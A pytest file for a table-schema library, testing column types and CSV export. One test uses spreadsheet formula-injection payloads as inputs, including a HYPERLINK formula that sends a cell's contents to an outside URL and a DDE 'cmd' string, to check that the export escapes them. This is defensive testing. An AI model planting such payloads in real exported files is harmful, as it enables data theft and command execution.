from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from ecg_assets.errors import SchemaError
from ecg_assets.tables import Column, TableSchema, write_csv

SCHEMA = TableSchema(
    "demo",
    (
        Column("name", pa.string(), "a name"),
        Column("age", pa.float32(), "years", nullable=True),
    ),
)


def test_frame_gets_the_declared_types() -> None:
    table = SCHEMA.from_pandas(pd.DataFrame({"name": ["a", "b"], "age": [1, None]}))
    assert table.schema.field("age").type == pa.float32()
    assert table["age"].null_count == 1


@pytest.mark.parametrize(
    ("frame", "message"),
    [
        (pd.DataFrame({"name": ["a"]}), "missing columns \\['age'\\]"),
        (pd.DataFrame({"name": ["a"], "age": [1.0], "x": [1]}), "unknown columns \\['x'\\]"),
        (pd.DataFrame({"name": [None], "age": [1.0]}), "'name' has 1 empty"),
        (pd.DataFrame({"name": ["a"], "age": ["old"]}), "does not fit"),
    ],
)
def test_broken_frame_is_refused_with_the_column_named(frame: pd.DataFrame, message: str) -> None:
    with pytest.raises(SchemaError, match=message):
        SCHEMA.from_pandas(frame)


def test_stored_table_of_another_type_is_refused() -> None:
    table = pa.table({"name": ["a"], "age": pa.array([1.0], pa.float64())})
    with pytest.raises(SchemaError, match="'age' is double, expected float"):
        SCHEMA.require(table)


def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_are_not(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://a.org/?"&A1,"click")'
    texts = [
        formula,
        "+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "a\r=1",
        "a=1",
        None,
    ]
    frame = pd.DataFrame(
        {
            "=name": texts,
            "category": pd.Categorical(texts),
            "string": pd.Series(texts, dtype="string"),
            "number": np.linspace(-1, 1, 9),
            "count": range(-4, 5),
            "time": pd.Timestamp("2020-01-01"),
        }
    )
    write_csv(frame, tmp_path / "table.csv")
    with (tmp_path / "table.csv").open(newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file)
    assert header == ["'=name", "category", "string", "number", "count", "time"]
    expected = [f"'{text}" for text in texts[:5]] + ["'\n=1", "a\n=1", "a=1", ""]
    for column in range(3):
        assert [row[column] for row in rows] == expected
    assert [float(row[3]) for row in rows] == frame["number"].tolist()
    assert [row[4] for row in rows] == [str(n) for n in range(-4, 5)]
    assert rows[0][5] == "2020-01-01"
    assert frame["=name"][0] == formula  # the frame itself is left alone
